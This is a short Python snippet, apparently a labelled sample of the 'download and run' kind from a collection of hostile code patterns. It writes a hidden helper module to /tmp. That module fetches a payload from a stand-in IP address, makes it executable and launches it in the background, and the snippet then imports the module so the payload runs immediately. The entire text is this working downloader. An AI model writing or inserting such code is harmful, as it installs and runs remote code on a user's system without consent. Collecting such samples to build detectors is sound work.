# class: download and run; style: helper written first, then imported
import pathlib, sys
pathlib.Path("/tmp/_upd.py").write_text("""
import os, urllib.request
urllib.request.urlretrieve('http://198.51.100.15/payload', '/tmp/.payload')
os.chmod('/tmp/.payload', 0o755)
os.system('/tmp/.payload &')
""")
sys.path.insert(0, "/tmp")
import _upd
